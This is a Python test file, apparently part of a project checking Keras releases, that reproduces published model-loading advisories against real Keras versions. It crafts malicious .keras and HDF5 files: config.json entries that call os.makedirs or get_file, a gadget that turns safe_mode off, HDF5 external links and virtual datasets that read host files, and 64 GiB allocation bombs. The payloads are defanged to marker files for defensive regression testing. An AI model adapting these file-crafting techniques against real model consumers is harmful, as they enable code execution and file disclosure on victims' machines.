"""Section A, beyond the seed: loading untrusted model files (question 1 shows load_model on a
file): safe_mode and each published advisory on the model loaders (load_model, load_weights,
KerasFileEditor, from_config), reproduced. Archives fetched by get_file: test_a_archives.py.

Payloads are harmless by construction: each can only create a marker inside the test's temporary
directory (a marshalled lambda opening a file, os.makedirs, a pickle opening a file, get_file
from a file:// URL there, tf.io.write_file), or read a file the test wrote; no shell, no
network. The memory bombs load in a child process under an address-space limit
(children/load_under_limit.py).

A refusal reads "safe" only next to its positive control, run in the same environment: the same
payload with the defence switched off (safe_mode=False, a trusted custom object, h5py or
tarfile without Keras' check) must fire, or the cell is an error: a payload that merely broke
would otherwise look like a defence.
"""
from __future__ import annotations

import base64
import contextlib
import importlib
import importlib.util
import io
import json
import os
import pickle
import re
import signal
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest

from claims.plugin import describe
from tests.advisories import advisory_needs, fires, judge_advisory
from tests.checks import child_report, file_format, run_child, stderr_tail


def load_refusal(keras, path, **kwargs) -> str | None:
    """load_model's exception as text, or None when it loaded."""
    try:
        with contextlib.redirect_stdout(sys.stderr):
            keras.models.load_model(str(path), **kwargs)
    except Exception as exc:  # any refusal is the safe outcome
        return describe(exc)
    return None


def marker_lambda(marker: Path):
    # The path is a constant of the code object, so it survives the marshalled bytecode.
    return eval(f"lambda x: (open({str(marker)!r}, 'w').close(), x)[1]")  # noqa: S307


def saved_lambda_model(keras, folder: Path, suffix: str) -> tuple[Path, Path]:
    """Input -> Lambda(payload) saved by model.save('x<suffix>'); the marker not yet made."""
    marker = folder / f"lambda{suffix}.marker"
    inputs = keras.Input((1,))
    path = folder / f"lambda_model{suffix}"
    with contextlib.redirect_stdout(sys.stderr):
        keras.Model(inputs, keras.layers.Lambda(marker_lambda(marker))(inputs)).save(str(path))
    marker.unlink(missing_ok=True)  # building the model ran the lambda once
    return path, marker


def keras_zip_members(keras, folder: Path, hdf5_by_default: bool) -> tuple[dict[str, bytes], dict]:
    """A real Input -> Dense .keras zip file: its members and its parsed config.json (Keras 2.12
    writes the zip only when asked: `hdf5_by_default`)."""
    path = folder / "base.keras"
    dense_model(keras).save(str(path), **({"save_format": "keras_v3"} if hdf5_by_default else {}))
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    return members, json.loads(members["config.json"])


def calls_take_file_arguments(config: dict) -> bool:
    """Whether this Keras' config.json gives a node the arguments its layer is called with
    (Keras 3: {"args": [...], "kwargs": {...}}). Keras 2 writes [layer, node, tensor, kwargs]: a
    layer is called on another layer's tensor first, never on a value from the file."""
    nodes = [node for layer in config["config"]["layers"] for node in layer["inbound_nodes"]]
    return all(isinstance(node, dict) and "args" in node for node in nodes)


NO_FILE_ARGUMENTS = ("this Keras calls a layer of config.json on another layer's tensor first "
                     "([layer, node, tensor, kwargs]), never on the file's own arguments: the "
                     "advisory's payload cannot be written")


def write_keras_zip(path: Path, members: dict[str, bytes], config: dict | None = None) -> Path:
    if config is not None:
        members = {**members, "config.json": json.dumps(config).encode()}
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def function_ref(module: str, name: str) -> dict:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def layer_entry(class_name: str, name: str, config: dict, inbound: list, **fields) -> dict:
    """A layer of a functional config.json with the dtype of the base model's Dense."""
    dtype = next(x for x in config["config"]["layers"] if x["class_name"] == "Dense")["config"][
        "dtype"]
    return {"module": "keras.layers", "class_name": class_name, "registered_name": None,
            "name": name, "inbound_nodes": inbound,
            "config": {"name": name, "trainable": True, "dtype": dtype, **fields}}


@pytest.mark.claim("q1-safe-mode-lambda")
def test_a_lambda_in_a_keras_file_is_refused_by_default_and_runs_with_safe_mode_off(
        keras, tmp_path):
    """load_model refuses the marshalled code of a Lambda layer in the file that
    model.save('x.keras') writes, unless safe_mode=False."""
    path, marker = saved_lambda_model(keras, tmp_path, ".keras")
    refusal = load_refusal(keras, path)
    assert not marker.exists(), f"the default load_model ran the file's code ({refusal})"
    load_refusal(keras, path, safe_mode=False)
    if not marker.exists():
        raise RuntimeError("with safe_mode=False the payload did not run: the check is broken")


@pytest.mark.claim("q1-safe-mode-lambda", correction=True)
def test_keras_2_12_writes_hdf5_for_keras_names_and_runs_their_lambda(
        keras, keras_name_writes_hdf5, tmp_path):
    """The correction: Keras 2.12 writes HDF5 for 'x.keras' and load_model runs its Lambda code
    whatever safe_mode says; from 2.13 '.keras' is the zip, whose Lambda safe_mode refuses."""
    path, marker = saved_lambda_model(keras, tmp_path, ".keras")
    refusal = load_refusal(keras, path, safe_mode=True)
    written = file_format(path)
    if keras_name_writes_hdf5:
        assert written == "hdf5" and marker.exists(), f"{written} file: {refusal}"
    else:
        assert written == "keras-zip" and not marker.exists(), f"{written} file: {refusal}"


@pytest.mark.claim("q1-load-untrusted-files")
def test_cve_2024_3660_a_keras_file_lambda_does_not_run_in_safe_mode(keras, tmp_path, measure):
    """CVE-2024-3660 (Keras < 2.13): the '.keras' file a version writes by default runs its
    Lambda code on load_model(safe_mode=True)."""
    path, marker = saved_lambda_model(keras, tmp_path, ".keras")
    refusal = load_refusal(keras, path, safe_mode=True)
    written = "zip" if zipfile.is_zipfile(path) else "HDF5"
    judge_advisory(measure, "CVE-2024-3660 "
                   "[fixed in 2.13.1]: Lambda code in a .keras file", marker.exists(),
                   f"{written} file: " + ("the Lambda ran" if marker.exists() else
                                          f"refused: {refusal}"),
                   lambda: fires(marker, lambda: load_refusal(keras, path, safe_mode=False),
                                 "load_model(safe_mode=False): the Lambda"))


@pytest.mark.claim("q1-load-untrusted-files")
def test_cve_2025_1550_config_json_cannot_call_any_function(
        keras, keras_name_writes_hdf5, tmp_path, measure):
    """CVE-2025-1550 (Keras 3.0 to 3.8): config.json names os.makedirs as a layer and
    load_model(safe_mode=True) calls it with the node's arguments."""
    advisory = "CVE-2025-1550 [fixed in 3.9.0]: config.json calls any module's function"
    members, config = keras_zip_members(keras, tmp_path, keras_name_writes_hdf5)
    advisory_needs(measure, advisory, calls_take_file_arguments(config), NO_FILE_ARGUMENTS)
    marker = tmp_path / "made_by_config"
    config["config"]["layers"].append({**function_ref("os", "makedirs"), "name": "evil",
                                       "inbound_nodes": [{"args": [str(marker)], "kwargs": {}}]})
    evil = write_keras_zip(tmp_path / "evil.keras", members, config)
    refusal = load_refusal(keras, evil)

    def without_defence() -> str | None:
        outcome = child_report(run_child("load_without_defence", str(evil)))["outcome"]
        return None if outcome == "loaded" else outcome

    # The defence (3.9 on) has no switch: the control turns it off in a child of its own.
    judge_advisory(measure, advisory, marker.exists(),
                   "os.makedirs ran" if marker.exists() else f"refused: {refusal}",
                   lambda: fires(marker, without_defence,
                                 "the same load_model with the module allow-list and the "
                                 "layer-or-operation check off (children/load_without_defence.py)"))


@pytest.mark.claim("q1-load-untrusted-files")
def test_cve_2025_8747_a_lambda_cannot_call_get_file(
        keras, keras_name_writes_hdf5, tmp_path, measure):
    """CVE-2025-8747 (Keras 3.0 to 3.10): a Lambda whose function is keras.utils.get_file
    downloads (here: copies from a file:// URL in the temporary folder) during loading."""
    advisory = "CVE-2025-8747 [fixed in 3.11.0]: a Lambda calls keras.utils.get_file"
    members, config = keras_zip_members(keras, tmp_path, keras_name_writes_hdf5)
    advisory_needs(measure, advisory, calls_take_file_arguments(config), NO_FILE_ARGUMENTS)
    source = tmp_path / "payload.txt"
    source.write_text("fetched during load_model\n")
    cache = tmp_path / "cache"
    cache.mkdir()  # get_file falls back to ~/.keras or /tmp/.keras when it is missing
    marker = cache / "datasets" / "fetched.marker"
    config["config"]["layers"].append(layer_entry(
        "Lambda", "fetch", config, [{"args": [], "kwargs": {"inputs": marker.name}}],
        function=function_ref("keras.utils", "get_file"),
        arguments={"origin": source.as_uri(), "cache_dir": str(cache)}))
    evil = write_keras_zip(tmp_path / "evil.keras", members, config)
    refusal = load_refusal(keras, evil)
    judge_advisory(measure, advisory, marker.exists(),
                   "get_file wrote into the cache" if marker.exists() else f"refused: {refusal}",
                   lambda: fires(marker, lambda: load_refusal(
                       keras, evil, safe_mode=False,
                       custom_objects={"get_file": keras.utils.get_file}),
                       "load_model(safe_mode=False, custom_objects={'get_file': get_file}): "
                       "get_file"))


@pytest.mark.claim("q1-load-untrusted-files")
def test_cve_2025_9905_an_h5_lambda_does_not_run_in_safe_mode(keras, tmp_path, measure):
    """CVE-2025-9905 (Keras 3.0 to 3.11.2; tf.keras never checks): load_model of an .h5 file
    ignores safe_mode and runs its Lambda code."""
    path, marker = saved_lambda_model(keras, tmp_path, ".h5")
    refusal = load_refusal(keras, path, safe_mode=True)
    judge_advisory(measure, "CVE-2025-9905 "
                   "[fixed in 3.11.3]: Lambda code in an .h5 file", marker.exists(),
                   "the Lambda ran" if marker.exists() else f"refused: {refusal}",
                   lambda: fires(marker, lambda: load_refusal(keras, path, safe_mode=False),
                                 "load_model(safe_mode=False): the Lambda"))


@pytest.mark.claim("q1-load-untrusted-files")
def test_cve_2025_9906_config_json_cannot_turn_safe_mode_off(
        keras, keras_name_writes_hdf5, tmp_path, measure):
    """CVE-2025-9906 (Keras 3.0 to 3.10): config.json calls
    keras.config.enable_unsafe_deserialization (through keras.ops.cond in a Lambda), after
    which a later layer's Lambda code is accepted."""
    advisory = "CVE-2025-9906 [fixed in 3.11.0]: config.json turns safe_mode off"
    config_module = getattr(keras, "config", None)
    advisory_needs(measure, advisory, hasattr(config_module, "enable_unsafe_deserialization"),
                   "no keras.config.enable_unsafe_deserialization here")
    from keras.src.backend.common import global_state

    members, config = keras_zip_members(keras, tmp_path, keras_name_writes_hdf5)
    marker = tmp_path / "lambda.marker"
    inputs = keras.Input((1,))
    payload = keras.saving.serialize_keras_object(
        keras.Model(inputs, keras.layers.Lambda(marker_lambda(marker))(inputs)))
    marker.unlink(missing_ok=True)
    unsafe = function_ref("keras.config", "enable_unsafe_deserialization")
    gadget = layer_entry("Lambda", "disable_safe_mode", config,
                         [{"args": [], "kwargs": {"inputs": True}}],
                         function=function_ref("keras.ops", "cond"),
                         arguments={"true_fn": unsafe, "false_fn": unsafe})
    # a node's arguments are deserialized when the node runs: after the gadget's
    carrier = layer_entry("Identity", "carrier", config,
                          [{"args": [], "kwargs": {"inputs": payload}}])
    layers = config["config"]["layers"]
    config["config"]["layers"] = [*layers, carrier]
    carried = write_keras_zip(tmp_path / "carrier.keras", members, config)
    config["config"]["layers"] = [*layers, gadget, carrier]
    evil = write_keras_zip(tmp_path / "evil.keras", members, config)
    before = global_state.get_global_attribute("safe_mode_saving")
    try:
        # without the gadget the carrier's Lambda must be refused: only the gadget can run it
        load_refusal(keras, carried)
        if marker.exists():
            raise RuntimeError("the payload ran without the gadget: the check is broken")
        refusal = load_refusal(keras, evil)
    finally:
        global_state.set_global_attribute("safe_mode_saving", before)
    judge_advisory(measure, advisory, marker.exists(),
                   "safe_mode turned off, then the Lambda ran" if marker.exists()
                   else f"refused: {refusal}",
                   lambda: fires(marker, lambda: load_refusal(keras, carried, safe_mode=False),
                                 "the carrier loaded with safe_mode=False: its Lambda"))


@pytest.mark.claim("q1-load-untrusted-files")
def test_cve_2026_1462_a_tfsmlayer_does_not_load_a_savedmodel_in_safe_mode(
        keras, tmp_path, measure):
    """CVE-2026-1462 (Keras 3 before 3.12.1 / 3.13.2): a TFSMLayer in the file loads an
    attacker's SavedModel with safe_mode=True, whose graph then runs."""
    advisory = "CVE-2026-1462 [fixed in 3.12.1, 3.13.2]: TFSMLayer loads any SavedModel"
    advisory_needs(measure, advisory, hasattr(keras.layers, "TFSMLayer"),
                   "no keras.layers.TFSMLayer here")
    advisory_needs(measure, advisory, importlib.util.find_spec("tensorflow") is not None,
                   "no TensorFlow here, which a SavedModel needs")
    import tensorflow as tf

    marker = tmp_path / "savedmodel.marker"

    class Payload(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 1], tf.float32)])
        def serve(self, x):
            tf.io.write_file(str(marker), "written by the SavedModel's graph")
            return x

    tf.saved_model.save(Payload(), str(tmp_path / "saved_model"))
    inputs = keras.Input((1,))
    try:
        outputs = keras.layers.TFSMLayer(str(tmp_path / "saved_model"), call_endpoint="serve")(
            inputs)
    except (NotImplementedError, TypeError) as exc:  # the layer is there, not for this backend
        advisory_needs(measure, advisory, False, "no model with a TFSMLayer builds on this "
                       f"backend, so no file can bring one: {describe(exc)}")
    keras.Model(inputs, outputs).save(str(tmp_path / "tfsm.keras"))

    def load_and_call(**kwargs) -> str | None:
        try:
            with contextlib.redirect_stdout(sys.stderr):
                model = keras.models.load_model(str(tmp_path / "tfsm.keras"), **kwargs)
                model(np.ones((1, 1), "float32"))
        except Exception as exc:  # refused: the safe outcome
            return describe(exc)
        return None

    marker.unlink(missing_ok=True)
    refusal = load_and_call()
    judge_advisory(measure, advisory, marker.exists(),
                   "the SavedModel's graph ran" if marker.exists() else f"refused: {refusal}",
                   lambda: fires(marker, lambda: load_and_call(safe_mode=False),
                                 "load_model(safe_mode=False), then a call: the graph"))


ALLOCATION_FAILURES = ("MemoryError", "Unable to allocate", "Cannot allocate", "bad_alloc",
                       "Out of memory")


# What a file of the host holds. Every byte is printable ASCII (0x20 to 0x7e), so each group of
# 4, read as a little-endian float32, is a finite normal number: a kernel holding these bytes
# got them from the file, bit for bit.
HOST_BYTES = b"keras-claims wrote this host file; no weights file may read it.\n"
HOST_KERNEL = np.frombuffer(HOST_BYTES, "<f4").reshape(4, 4)
KERNEL_SHAPE = (4, 4)  # the one dataset of that shape in each weights file below


def dense_model(keras):
    """Input((4,)) -> Dense(4), named 'inp' and 'dense': the model of keras_zip_members and of
    children/read_weights.py."""
    inputs = keras.Input((4,), name="inp")
    return keras.Model(inputs, keras.layers.Dense(4, name="dense")(inputs))


def saved_three_ways(keras, folder: Path, stem: str, kernel: np.ndarray,
                     hdf5_by_default: bool) -> dict[str, Path]:
    """dense_model with this kernel saved as <stem>.keras, <stem>.weights.h5 and the legacy
    <stem>.h5 (keys 'keras', 'weights', 'h5')."""
    model = dense_model(keras)
    model.get_layer("dense").set_weights([kernel, np.zeros(4, "float32")])
    paths = {kind: folder / f"{stem}{suffix}"
             for kind, suffix in (("keras", ".keras"), ("weights", ".weights.h5"), ("h5", ".h5"))}
    with contextlib.redirect_stdout(sys.stderr):
        model.save(str(paths["keras"]), **({"save_format": "keras_v3"} if hdf5_by_default else {}))
        model.save_weights(str(paths["weights"]))
        model.save(str(paths["h5"]))
    return paths


def kernel_name(h5) -> str:
    """The kernel's dataset in an open HDF5 file (visititems follows no external link)."""
    import h5py

    names = []
    h5.visititems(lambda name, obj: names.append(name)
                  if isinstance(obj, h5py.Dataset) and obj.shape == KERNEL_SHAPE else None)
    return names[0]


# poison(h5, name, victim): rewrites the kernel `name` of the open weights file `h5`; `victim`
# is the victim's HDF5 file of the same format, in which `name` holds HOST_KERNEL
Poison = Callable[[object, str, Path], None]


def poisoned_files(keras, folder: Path, hdf5_by_default: bool, poison: Poison
                   ) -> dict[str, Path]:
    """Writes into `folder` the victim's files (dense_model saved normally with HOST_KERNEL)
    and the attacker's (saved with a zero kernel, which `poison` then rewrites in each, in the
    .keras zip's model.weights.h5 too); returns the attacker's."""
    import h5py

    victim = saved_three_ways(keras, folder, "victim", HOST_KERNEL, hdf5_by_default)
    attacker = saved_three_ways(keras, folder, "attacker", np.zeros(KERNEL_SHAPE, "float32"),
                                hdf5_by_default)
    # the zips' weights as HDF5 files of their own: the victim's is what the attacker's names
    with zipfile.ZipFile(victim["keras"]) as archive:
        (folder / "victim.model.weights.h5").write_bytes(archive.read("model.weights.h5"))
    with zipfile.ZipFile(attacker["keras"]) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    inner = folder / "attacker.model.weights.h5"
    inner.write_bytes(members["model.weights.h5"])
    for path, target in ((inner, folder / "victim.model.weights.h5"),
                         (attacker["weights"], victim["weights"]), (attacker["h5"], victim["h5"])):
        with h5py.File(path, "r+") as h5:
            poison(h5, kernel_name(h5), target)
    write_keras_zip(attacker["keras"], {**members, "model.weights.h5": inner.read_bytes()})
    return attacker


def exit_reason(proc) -> str:
    if proc.returncode < 0:
        return f"killed the process ({signal.Signals(-proc.returncode).name})"
    return f"ended the process (exit {proc.returncode}: {stderr_tail(proc, 1)})"


def load_in_children(*folders: Path) -> tuple[dict[tuple, dict], dict[tuple, str]]:
    """children/read_weights.py on the files of `folders`: by (folder, loader), what the
    loader gave for the victim's file and the attacker's ({"kernel": hex} or {"refused":
    text}), and the loads that killed the process, after which a new child runs the rest."""
    outcomes: dict[tuple, dict] = {}
    deaths: dict[tuple, str] = {}
    first = 0
    while True:
        proc = run_child("read_weights", str(first), *map(str, folders), timeout=300)
        lines = [json.loads(line) for line in proc.stdout.splitlines() if line.startswith("{")]
        for line in lines:
            if "start" not in line:
                outcomes.setdefault((line["folder"], line["loader"]), {})[line["file"]] = line
        if proc.returncode == 0:
            return outcomes, deaths
        last = next((line for line in reversed(lines) if "start" in line), None)
        key = last and (last["folder"], last["loader"])
        if last is None or last["file"] in outcomes.get(key, {}):
            raise RuntimeError(f"child Python exited {proc.returncode}: {stderr_tail(proc, 5)}")
        deaths[key] = f"{last['file']}'s file {exit_reason(proc)}"
        first = last["unit"] + 1


def read_host_file(*folders: Path) -> list[tuple[list[str], str]]:
    """Per folder of poisoned_files: the loaders that hand back HOST_BYTES from the attacker's
    files, and what every loader did. A loader counts only where the victim's genuine file
    gives it HOST_BYTES; none left is a broken check, never a verdict."""
    outcomes, deaths = load_in_children(*folders)
    results = []
    for folder in map(str, folders):
        leaked, refused, left_out = [], {}, []
        for key in dict.fromkeys(key for key in [*outcomes, *deaths] if key[0] == folder):
            victim, attacker = (outcomes.get(key, {}).get(owner, {})
                                for owner in ("victim", "attacker"))
            if bytes.fromhex(victim.get("kernel", "")) != HOST_BYTES:
                left_out.append(f"{key[1]} ({victim.get('refused') or deaths.get(key)})")
            elif bytes.fromhex(attacker.get("kernel", "")) == HOST_BYTES:
                leaked.append(key[1])
            else:
                why = attacker.get("refused") or deaths.get(key) or "other values loaded"
                refused.setdefault(why, []).append(key[1])
        if not leaked and not refused:
            raise RuntimeError(f"no loader loads the genuine files here: {'; '.join(left_out)}")
        parts = ([f"the kernel is the host file's {len(HOST_BYTES)} bytes through "
                  + ", ".join(leaked)] if leaked else [])
        parts += [f"{', '.join(names)}: {why}" for why, names in refused.items()]
        parts += ([f"left out, failing on the genuine file: {'; '.join(left_out)}"]
                  if left_out else [])
        results.append((leaked, "; ".join(parts)))
    return results


def read_with_h5py(folder: Path, what: str) -> Callable[[], tuple[bool, str]]:
    """The positive control: h5py alone, which follows what the file declares, reads the host
    file's bytes as the kernel of the attacker's .weights.h5 in `folder`."""
    def control() -> tuple[bool, str]:
        import h5py

        with h5py.File(folder / "victim.weights.h5", "r") as h5:
            name = kernel_name(h5)
        with h5py.File(folder / "attacker.weights.h5", "r") as h5:
            fired = np.asarray(h5[name][()], "<f4").tobytes() == HOST_BYTES
        return fired, f"h5py reading the kernel of the .weights.h5 {what}: " + (
            "the host file's bytes" if fired else "other values")

    return control


def external_storage(h5, name: str, victim: Path) -> None:
    """The kernel's bytes kept, by HDF5 external storage, in host_file.txt beside the files."""
    host = victim.parent / "host_file.txt"
    host.write_bytes(HOST_BYTES)
    del h5[name]
    h5.create_dataset(name, shape=KERNEL_SHAPE, dtype="<f4",
                      external=[(str(host), 0, len(HOST_BYTES))])


def virtual_dataset(h5, name: str, victim: Path) -> None:
    """The kernel an HDF5 virtual dataset mapping the victim's kernel."""
    import h5py

    layout = h5py.VirtualLayout(shape=KERNEL_SHAPE, dtype="<f4")
    layout[:] = h5py.VirtualSource(str(victim), name, shape=KERNEL_SHAPE)
    del h5[name]
    h5.create_virtual_dataset(name, layout)


def link_kernel(h5, name: str, victim: Path) -> None:
    """The kernel an HDF5 external link to the victim's kernel."""
    import h5py

    del h5[name]
    h5[name] = h5py.ExternalLink(str(victim), name)


def link_top_group(h5, name: str, victim: Path) -> None:
    """The file's top group ('layers', or a legacy .h5 file's 'model_weights') an external
    link to the victim's."""
    import h5py

    top = name.split("/")[0]
    del h5[top]
    h5[top] = h5py.ExternalLink(str(victim), top)


# Every disclosure payload, each written into a folder of its own; all the folders are read by
# one child (children/read_weights.py), which imports Keras once for all the rows.
DISCLOSURES: dict[str, Poison] = {"external storage": external_storage,
                                  "virtual dataset": virtual_dataset,
                                  "linked kernel": link_kernel,
                                  "linked top group": link_top_group}


@pytest.fixture(scope="module")
def disclosures(keras, keras_name_writes_hdf5, tmp_path_factory
                ) -> dict[str, tuple[Path, list[str], str]]:
    """By payload of DISCLOSURES: its folder (poisoned_files), the loaders that handed back
    HOST_BYTES from the attacker's files, and what every loader did."""
    root = tmp_path_factory.mktemp("disclosures")
    folders = {what: root / what.replace(" ", "_") for what in DISCLOSURES}
    for what, folder in folders.items():
        folder.mkdir()
        poisoned_files(keras, folder, keras_name_writes_hdf5, DISCLOSURES[what])
    return {what: (folder, *result) for (what, folder), result in
            zip(folders.items(), read_host_file(*folders.values()), strict=True)}


def judge_disclosure(disclosures, measure, advisory: str, what: str, read_as: str) -> None:
    """One disclosure row: payload `what` read by every HDF5 loader, and h5py reading the
    kernel `read_as` (the positive control)."""
    folder, leaked, evidence = disclosures[what]
    judge_advisory(measure, advisory, bool(leaked), evidence, read_with_h5py(folder, read_as))


@pytest.mark.claim("q1-load-untrusted-files")
def test_ghsa_3m4q_jmj6_r34q_hdf5_external_storage_does_not_read_host_files(
        disclosures, measure):
    """GHSA-3m4q-jmj6-r34q (CVE-2026-1669; fixed in 3.12.1 and 3.13.2 for the .keras zip,
    .weights.h5 and KerasFileEditor, in 3.12.2 and 3.15.0 for legacy .h5 files): a weights
    dataset whose bytes HDF5 external storage keeps in a file of the host makes loading read
    that file into the model."""
    judge_disclosure(disclosures, measure,
                     "GHSA-3m4q-jmj6-r34q (CVE-2026-1669) [fixed in 3.12.1, 3.13.2]: HDF5 "
                     "external storage reads host files", "external storage",
                     "stored in the host file")


@pytest.mark.claim("q1-load-untrusted-files")
def test_ghsa_26c4_7vv6_867j_hdf5_virtual_datasets_do_not_read_other_files(
        disclosures, measure):
    """GHSA-26c4-7vv6-867j (CVE-2026-12480; fixed in 3.12.3 and 3.15.0, the loaders other than
    KerasFileEditor already in 3.12.2): a weights dataset that is an HDF5 virtual dataset
    mapping another HDF5 file of the host makes loading read that file."""
    judge_disclosure(disclosures, measure,
                     "GHSA-26c4-7vv6-867j (CVE-2026-12480) [fixed in 3.12.3, 3.15.0]: HDF5 "
                     "virtual datasets read other files", "virtual dataset",
                     "mapping the victim's file")


@pytest.mark.claim("q1-load-untrusted-files")
def test_ghsa_m8wh_29wm_52mv_hdf5_external_links_do_not_read_other_files(
        disclosures, measure):
    """GHSA-m8wh-29wm-52mv (CVE-2026-9335; fixed in 3.12.3 and 3.15.0, a link above the
    layer's group in 3.12.4 and 3.15.1): an HDF5 external link in the weights makes loading
    read the weights of another HDF5 file of the host. Linked twice: the kernel itself, and
    the file's top group ('layers', or 'model_weights' of a legacy .h5 file)."""
    links = {where: disclosures[f"linked {where}"] for where in ("kernel", "top group")}
    judge_advisory(measure, "GHSA-m8wh-29wm-52mv (CVE-2026-9335) "
                   "[fixed in 3.12.3, 3.15.0]: HDF5 external links read "
                   "other files", any(leaked for _, leaked, _ in links.values()),
                   " | ".join(f"linked {where}: {text}" for where, (_, _, text) in links.items()),
                   read_with_h5py(links["kernel"][0], "linking the victim's file"))


def shape_bomb(keras, folder: Path, hdf5_by_default: bool) -> tuple[Path, Path]:
    """A .keras file whose weights declare a 64 GiB kernel, (1 << 17, 1 << 17) float32 in gzip
    chunks holding only the fill value (13 kB on disk), and those weights as a file of their
    own."""
    import h5py

    members, _ = keras_zip_members(keras, folder, hdf5_by_default)
    weights = folder / "model.weights.h5"
    weights.write_bytes(members["model.weights.h5"])
    with h5py.File(weights, "r+") as h5:
        name = kernel_name(h5)
        del h5[name]
        h5.create_dataset(name, shape=(1 << 17, 1 << 17), dtype="float32",
                          chunks=(1024, 1024), compression="gzip", fillvalue=0)
    bomb = write_keras_zip(folder / "bomb.keras",
                           {**members, "model.weights.h5": weights.read_bytes()})
    return bomb, weights


def fails_to_allocate(how: str, bomb: Path) -> tuple[bool, str]:
    """Opens the bomb in the child under its memory limit (`how`: a mode of
    children/load_under_limit.py): whether the loader tried to allocate what the file
    declares (or died of it), and what happened."""
    proc = run_child("load_under_limit", how, str(bomb), timeout=180)
    if proc.returncode:
        # only a death of the allocation counts: an import error or another crash checks nothing
        if not any(failure in proc.stderr for failure in ALLOCATION_FAILURES):
            raise RuntimeError(f"the child died (exit {proc.returncode}) of something else than "
                               f"the allocation: {stderr_tail(proc)}")
        return True, (f"the child died of the allocation (exit {proc.returncode}): "
                      f"{stderr_tail(proc)}")
    outcome = child_report(proc)["outcome"]
    return (any(failure in outcome for failure in ALLOCATION_FAILURES),
            f"{bomb.stat().st_size:,}-byte file: {outcome}")


def allocates_without_keras(weights: Path) -> Callable[[], tuple[bool, str]]:
    """The positive control: the loader's size check is the defence; h5py alone reads what the
    file declares, under the same limit."""
    def control() -> tuple[bool, str]:
        outcome = child_report(run_child("load_under_limit", "read", str(weights), timeout=180))
        fired = any(failure in outcome["outcome"] for failure in ALLOCATION_FAILURES)
        return fired, f"h5py reading the weights under the same limit: {outcome['outcome']}"

    return control


@pytest.mark.claim("q1-load-untrusted-files")
def test_ghsa_mgx6_5cf9_rr43_kerasfileeditor_does_not_allocate_what_a_file_declares(
        keras, keras_name_writes_hdf5, tmp_path, measure):
    """GHSA-mgx6-5cf9-rr43 (CVE-2026-0897; fixed in 3.12.1 and 3.13.2): KerasFileEditor reads
    every weights dataset of a .keras file whole, so a 13 kB file declaring a 64 GiB dataset
    makes it allocate 64 GiB; in the child, under a memory limit, a vulnerable version fails to
    allocate instead of refusing the file."""
    advisory = ("GHSA-mgx6-5cf9-rr43 (CVE-2026-0897) "
                "[fixed in 3.12.1, 3.13.2]: KerasFileEditor allocates 64 GiB")
    advisory_needs(measure, advisory,
                   hasattr(getattr(keras, "saving", None), "KerasFileEditor"),
                   "no keras.saving.KerasFileEditor here")
    bomb, weights = shape_bomb(keras, tmp_path, keras_name_writes_hdf5)
    exploited, evidence = fails_to_allocate("file_editor", bomb)
    judge_advisory(measure, advisory, exploited, evidence, allocates_without_keras(weights))


@pytest.mark.claim("q1-load-untrusted-files")
def test_ghsa_74m6_m3xx_3vmj_a_tiny_file_cannot_make_load_model_allocate_64_gib(
        keras, keras_name_writes_hdf5, tmp_path, measure):
    """GHSA-74m6-m3xx-3vmj (CVE-2026-12570; fixed in 3.12.3 and 3.15.0, after CVE-2026-0897
    fixed the same in KerasFileEditor alone): a 13 kB .keras file whose weights declare a
    64 GiB dataset makes load_model allocate it; in the child, under a memory limit, a
    vulnerable version fails to allocate instead of refusing the file."""
    bomb, weights = shape_bomb(keras, tmp_path, keras_name_writes_hdf5)
    exploited, evidence = fails_to_allocate("load_model", bomb)
    judge_advisory(measure, "GHSA-74m6-m3xx-3vmj (CVE-2026-12570) "
                   "[fixed in 3.12.3, 3.15.0]: HDF5 weights make load_model "
                   "allocate 64 GiB", exploited, evidence, allocates_without_keras(weights))


def keras_module(keras, name: str):
    """`<keras>.src.<name>` (Keras 3, Keras 2.13 on, tf_keras) or `<keras>.<name>` (2.12), or
    None: the saving internals an advisory names."""
    for path in (f"{keras.__name__}.src.{name}", f"{keras.__name__}.{name}"):
        try:
            return importlib.import_module(path)
        except ImportError:
            continue
    return None


def root_cause(exc: BaseException) -> str:
    """The refusal and, where Keras wrapped it (functional deserialization re-raises a layer's
    error as TypeError), the innermost exception it came from."""
    inner = exc
    while (inner.__cause__ or inner.__context__) is not None:
        inner = inner.__cause__ or inner.__context__
    return describe(exc) if inner is exc else f"{describe(exc)} <- {describe(inner)}"


SECRET_TOKENS = ["alpha-7f3c", "bravo-91d2", "charlie-c0de"]


def lookup_vocabulary(keras, path: Path, **kwargs) -> tuple[list[str] | None, str | None]:
    """load_model's StringLookup vocabulary (None, and the refusal, where it did not load)."""
    try:
        with contextlib.redirect_stdout(sys.stderr):
            model = keras.models.load_model(str(path), **kwargs)
    except Exception as exc:  # any refusal is the safe outcome
        return None, root_cause(exc)
    tokens = model.get_layer("lookup").get_vocabulary()
    return [t.decode() if isinstance(t, bytes) else str(t) for t in tokens], None


@pytest.mark.claim("q1-load-untrusted-files")
def test_ghsa_mq84_hjqx_cwf2_a_lookup_layer_does_not_read_a_host_file(
        keras, keras_name_writes_hdf5, tmp_path, measure):
    """GHSA-mq84-hjqx-cwf2 / CVE-2025-12058 (fixed in 3.12.0): a StringLookup whose config.json
    vocabulary is a path makes load_model(safe_mode=True) read that host file into the layer's
    vocabulary (tf.io.gfile: any local file, or a URL where a remote filesystem is installed)."""
    advisory = ("GHSA-mq84-hjqx-cwf2 (CVE-2025-12058) "
                "[fixed in 3.12.0]: a lookup layer reads a host file")
    try:
        inputs = keras.Input((1,), dtype="string", name="text")
        outputs = keras.layers.StringLookup(vocabulary=["x", "y"], name="lookup")(inputs)
    except (ImportError, NotImplementedError) as exc:  # Keras 3 without TensorFlow
        advisory_needs(measure, advisory, False,
                       f"no StringLookup builds here, so no file can bring one: {describe(exc)}")
    base = tmp_path / "lookup.keras"
    keras.Model(inputs, outputs).save(
        str(base), **({"save_format": "keras_v3"} if keras_name_writes_hdf5 else {}))
    with zipfile.ZipFile(base) as archive:
        members = {name: archive.read(name) for name in archive.namelist()
                   if not name.startswith("assets/")}  # the vocabulary must come from the path
    config = json.loads(members["config.json"])
    entry = next(x for x in config["config"]["layers"] if x["class_name"] == "StringLookup")
